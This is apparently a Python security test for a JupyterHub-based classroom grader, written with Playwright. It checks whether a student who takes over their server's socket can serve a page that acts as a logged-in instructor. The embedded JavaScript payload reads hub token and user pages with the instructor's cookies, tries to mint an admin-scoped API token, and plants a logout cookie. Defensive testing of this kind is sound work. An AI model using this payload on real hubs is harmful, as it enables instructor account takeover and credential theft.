"""A student takes an instructor's account: what answers behind the student's address is a page of the student's.

The page tries, when an instructor who is logged in opens it, to read pages of the hub and of the instructor's server
with the instructor's cookies, and to make itself a token.
"""

import contextlib
import http.server
import secrets
import socketserver
import sqlite3
import threading
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Page

from autograder.classroom.plan import STAFF_HOST, Classroom
from tests.classroom.visitor import Visitor

WAIT = 180_000  # ms
PAGE = b"<!doctype html><title>theirs</title>"


class Theirs(http.server.BaseHTTPRequestHandler):
    """Answers everything with one page."""

    def do_GET(self) -> None:
        """Send it."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Set-Cookie", "jupyterhub-hub-login=theirs; Path=/hub/")  # logs out whoever takes it
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    def log_message(self, *_: object) -> None:
        """Say nothing."""

    def address_string(self) -> str:
        """A Unix socket has none."""
        return ""


class Listening(socketserver.ThreadingUnixStreamServer):
    """Listens on a Unix socket."""

    daemon_threads = True


# What the page tries; what it could read is returned.
STEAL = """async ([hubs, own, name, note]) => {
  const read = []
  const tried = async (what) => { try { const got = await what(); if (got) read.push(got) } catch (_) {} }
  const get = (url) => tried(async () => (await (await fetch(url, {credentials: 'include'})).text()))
  for (const hub of hubs) {
    await get(`${hub}hub/token`)
    await get(`${hub}hub/api/users`)
    for (const text of ['', ...read]) {
      const token = (text.match(/xsrf_token: "([^"]+)"/) || ['', ''])[1]
      const xsrf = token || (document.cookie.match(/_xsrf=([^;]+)/) || ['', ''])[1]
      for (const type of ['application/json', 'text/plain'])
        await tried(async () => (await (await fetch(`${hub}hub/api/users/${name}/tokens?_xsrf=${xsrf}`, {
          method: 'POST', credentials: 'include', headers: {'Content-Type': type, 'X-XSRFToken': xsrf},
          body: JSON.stringify({note, scopes: ['admin:users']})})).text()))
    }
    for (const open of [() => window.open(`${hub}hub/token`), () => {
      const frame = document.createElement('iframe')
      frame.src = `${hub}hub/token`
      document.body.append(frame)
      return frame.contentWindow
    }]) {
      const other = open()
      await new Promise((done) => setTimeout(done, 2000))
      await tried(async () => other.document.documentElement.outerHTML + other.document.cookie)
      if (other && other.close) other.close()
    }
  }
  await get(`${own}api/contents`)
  await get(`${own}lab`)
  return read
}"""


@contextlib.contextmanager
def taken(path: Path) -> Iterator[None]:
    """Another program answers on the socket of a server.

    A student's process can have the server's own do that, for example by /proc/PID/mem; a test does without.
    """
    kept = path.with_suffix(".kept")
    path.rename(kept)
    with Listening(str(path), Theirs) as listening:
        path.chmod(0o777)
        thread = threading.Thread(target=listening.serve_forever)
        thread.start()
        try:
            yield
        finally:
            listening.shutdown()
            thread.join()
            kept.replace(path)


def log_in(chromium: Browser, classroom: Classroom, name: str, password: str) -> Page:
    """A page of somebody who has logged in, and whose server runs."""
    page = chromium.new_context(ignore_https_errors=True).new_page()
    page.set_default_timeout(WAIT)
    page.goto(f"{classroom.address_of(classroom.find(name))}hub/login?next=/hub/token")
    page.fill("#username_input", name)
    page.fill("#password_input", password)
    page.click("#login_submit")
    page.get_by_role("heading", name="Authorized Applications").or_(
        page.locator("#request-token-form")
    ).first.wait_for()
    return page


def steal(
    chromium: Browser, classroom: Classroom, student: Visitor, password: str, tossed: Sequence[str] = ()
) -> tuple[list[str], list[str]]:
    """Return what a page at a student's address reads as the teacher, and what a page of the hub would have read.

    The student's page first sets the cookies `tossed`, and tries with them too.
    """
    page = log_in(chromium, classroom, "teacher", password)
    hubs = list(
        dict.fromkeys(
            [classroom.url, classroom.address_of(classroom.find("teacher")), page.url.partition("hub/token")[0]]
        )
    )
    own = f"{page.url.partition('hub/token')[0]}user/teacher/"
    if classroom.host:
        hubs.append(student.base.partition("user/")[0])
        own = own.replace("://", "://teacher.")
    with taken(classroom.socket(classroom.find(student.name))):
        page.goto(student.base + secrets.token_hex(4))
        assert page.title() == "theirs"
        theirs = page.evaluate(STEAL, [hubs, own, "teacher", "theirs"])
        for cookie in tossed:
            page.evaluate("(cookie) => { document.cookie = cookie }", cookie)
            name, value = cookie.partition(";")[0].split("=", 1)
            assert any(each["name"] == name and each["value"] == value for each in page.context.cookies()), cookie
        if tossed:
            theirs += page.evaluate(STEAL, [hubs, own, "teacher", "theirs"])
            page.context.clear_cookies(domain=f".{classroom.host}")  # what the page of the hub's does is without them
        if classroom.staff_address:  # cookies know no ports
            page.goto(student.base.replace(urlsplit(student.base).hostname or "", STAFF_HOST) + secrets.token_hex(4))
            assert page.title() == "The class has another address"
        page.goto(classroom.address_of(classroom.find("teacher")) + "hub/home")
        same = page.evaluate(STEAL, [[classroom.address_of(classroom.find("teacher"))], own, "teacher", "stolen"])
    page.context.close()
    with contextlib.closing(sqlite3.connect(f"file:{classroom.state / 'jupyterhub.sqlite'}?mode=ro", uri=True)) as hub:
        made = {note for (note,) in hub.execute("select note from api_tokens")}
    assert "stolen" in made and "theirs" not in made, "a token that the student's page has made, which it need not read"
    return theirs, same


def loot(read: list[str]) -> list[str]:
    """Return what was read that is for the teacher alone; a page for people who are not logged in is for everybody."""
    return [text for text in read if '"token":' in text or "teacher" in text or 'id="request-token-form"' in text]
